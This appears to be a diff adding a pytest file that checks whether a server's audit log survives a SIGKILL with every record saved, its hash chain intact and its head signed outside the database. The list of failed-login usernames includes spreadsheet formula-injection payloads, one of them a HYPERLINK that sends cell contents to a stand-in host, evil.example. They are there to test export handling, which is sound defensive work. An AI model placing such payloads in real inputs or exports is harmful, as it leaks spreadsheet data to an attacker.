@@ -1,0 +1,180 @@
+"""The audit writer never holds a record in memory longer than about a second (issue 10, item 4):
+a real `xueliang serve` is killed with SIGKILL one second after audited actions, and every
+record is in the database, with the chain intact and its head signed outside the database."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import httpx
+import pytest
+from sqlalchemy import select
+
+from xueliang.access.audit import AuditLog, CheckpointKey, verify
+from xueliang.db.engine import create_engine, session_factory
+from xueliang.db.tables import AuditRecord
+
+KEY_HEX = "5e" * 32
+#: Attacker-chosen user names of failed logins (they reach the audit, and its exports).
+NAMES = ["nobody", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "@SUM(1)", "-2+3"]
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+def _src_dir() -> str:
+    import xueliang
+
+    return str(Path(xueliang.__file__).resolve().parents[1])
+
+
+@pytest.fixture
+def served(db_url: str, tmp_path: Path):  # type: ignore[no-untyped-def]
+    """A real server process on the test database, its keys and signed heads outside var/."""
+    port = _free_port()
+    secrets = tmp_path / "secrets"  # stands for a directory outside the data directory
+    env = {
+        **os.environ,
+        "PYTHONPATH": _src_dir(),
+        "XUELIANG_DATABASE__URL": db_url,
+        "XUELIANG_STORAGE__VAR_DIR": str(tmp_path / "var"),
+        "XUELIANG_API__PORT": str(port),
+        "XUELIANG_SIP__ENABLED": "false",
+        "XUELIANG_SIP__PASSWORD": "not-the-default-9f3a",
+        "XUELIANG_MEDIA__ENABLED": "false",
+        "XUELIANG_BOOTSTRAP_ADMIN": "root",
+        "XUELIANG_BOOTSTRAP_PASSWORD": "correct horse battery",
+        "XUELIANG_ACCESS__TOTP_REQUIRED_ROLES": "[]",
+        "XUELIANG_ACCESS__LOGIN_BURST": "1000",
+        "XUELIANG_AUDIT_KEY": KEY_HEX,
+        "XUELIANG_LOG_LEVEL": "info",
+    }
+    from xueliang.config import AccessConfig
+
+    if "audit_heads_file" in AccessConfig.model_fields:  # (not in the code before issue 10)
+        env["XUELIANG_ACCESS__AUDIT_HEADS_FILE"] = str(secrets / "audit-heads.jsonl")
+    with open(tmp_path / "serve.log", "wb") as log_file:
+        proc = subprocess.Popen(
+            [sys.executable, "-m", "xueliang.cli", "serve"], cwd=tmp_path, env=env,
+            stdout=subprocess.DEVNULL, stderr=log_file,
+        )
+    base = f"http://127.0.0.1:{port}"
+    deadline = time.monotonic() + 90
+    while True:
+        try:
+            if httpx.get(base + "/healthz", timeout=2).status_code == 200:
+                break
+        except httpx.HTTPError:
+            pass
+        if proc.poll() is not None or time.monotonic() > deadline:
+            proc.kill()
+            raise AssertionError(f"server did not start (exit {proc.poll()}):\n" + (tmp_path / "serve.log").read_text()[-3000:])
+        time.sleep(0.2)
+    yield proc, base, tmp_path
+    if proc.poll() is None:
+        proc.kill()
+    proc.wait()
+
+
+def _heads_file(tmp_path: Path) -> Path:
+    """Where the signed heads went: the configured file, or var/ when the setting is unknown
+    (the original code, which has no such setting)."""
+    configured = tmp_path / "secrets" / "audit-heads.jsonl"
+    return configured if configured.exists() else tmp_path / "var" / "audit" / "checkpoints.jsonl"
+
+
+async def test_sigkill_one_second_after_the_actions_loses_no_record(served, db_url: str) -> None:  # type: ignore[no-untyped-def]
+    proc, base, tmp_path = served
+    async with httpx.AsyncClient(base_url=base, timeout=30) as c:
+        # Wait until start-up's own records (if any) are behind us, so the 1 s below is the
+        # writer's bound, not start-up's.
+        await asyncio.sleep(0.5)
+        for name in NAMES:
+            r = await c.post("/api/v1/auth/login", json={"username": name, "password": "wrong"})
+            assert r.status_code == 401
+        r = await c.post("/api/v1/auth/login", json={"username": "root", "password": "correct horse battery"})
+        assert r.status_code == 200, r.text
+        auth = {"Authorization": f"Bearer {r.json()['access_token']}"}
+        # Sensitive reads: the registry exports and the audit itself.
+        assert (await c.get("/api/v1/survey/export", headers=auth)).status_code == 200
+        assert (await c.get("/api/v1/channels.xlsx", headers=auth)).status_code == 200
+        assert (await c.get("/api/v1/audit/records", headers=auth)).status_code == 200
+        assert (await c.get("/api/v1/channels", headers={"Authorization": "Bearer forged"})).status_code == 401
+    await asyncio.sleep(1.0)
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+
+    engine = create_engine(db_url)
+    sessions = session_factory(engine)
+    try:
+        async with sessions() as s:
+            rows = (await s.execute(select(AuditRecord.action, AuditRecord.outcome, AuditRecord.actor,
+                                           AuditRecord.detail).order_by(AuditRecord.seq))).all()
+        got = [(a, o, who) for a, o, who, _d in rows]
+        for name in NAMES:
+            assert ("auth.login", "failed", name) in got, got
+        assert ("auth.login", "ok", "root") in got, got
+        paths = " ".join(str(d) for *_x, d in rows)
+        for p in ("/survey/export", "/channels.xlsx", "/audit/records"):
+            assert p in paths, (p, got)
+        assert any(o in ("denied", "failed") and '"/api/v1/channels"' in str(d) for _a, o, _w, d in rows), rows
+        key = CheckpointKey(bytes.fromhex(KEY_HEX))
+        heads = _heads_file(tmp_path)
+        rep = await verify(sessions, key, heads)
+        assert rep.ok, rep.text()
+        assert rep.records == len(rows)
+        # The head was signed outside the database at the last flush, before the kill.
+        from xueliang.access.audit import read_signed_file
+
+        outside = read_signed_file(heads, key)
+        assert outside.head is not None and outside.head[1] == rep.head_seq, (outside.head, rep.head_seq)
+    finally:
+        await engine.dispose()
+
+
+async def test_writer_writes_within_a_second_on_its_own(db_url: str, tmp_path: Path) -> None:
+    """No flush() call, default timings: an appended record is in the database (seen from
+    another connection) and its head signed outside it within a second."""
+    engine = create_engine(db_url)
+    sessions = session_factory(engine)
+    key = CheckpointKey(b"q" * 32)
+    log = AuditLog(sessions, key, checkpoint_file=tmp_path / "heads.jsonl")
+    try:
+        await log.start()
+        await asyncio.sleep(0.3)  # the writer is idle, waiting
+        for i in range(3):
+            log.append("auth.login", "failed", actor=f"guess{i}")
+            await asyncio.sleep(0.1)
+        await asyncio.sleep(1.0)
+        other = create_engine(db_url)
+        try:
+            async with session_factory(other)() as s:
+                actors = list((await s.scalars(select(AuditRecord.actor).order_by(AuditRecord.seq))).all())
+        finally:
+            await other.dispose()
+        assert actors == ["guess0", "guess1", "guess2"]
+        from xueliang.access.audit import read_signed_file
+
+        outside = read_signed_file(tmp_path / "heads.jsonl", key)
+        assert outside.head is not None and outside.head[1] == 3
+        # Batching is kept: a burst goes in a few transactions of many records each.
+        for i in range(12_000):
+            log.append("media.live", "ok", actor="burst", resource_id=str(i))
+        await asyncio.sleep(1.0)
+        assert log.written == 12_003
+        heads = read_signed_file(tmp_path / "heads.jsonl", key)
+        assert heads.head is not None and heads.head[1] == 12_003
+        assert heads.heads <= 6, heads.heads  # one signed head per flush, not per record
+    finally:
+        await log.stop()
+        await engine.dispose()
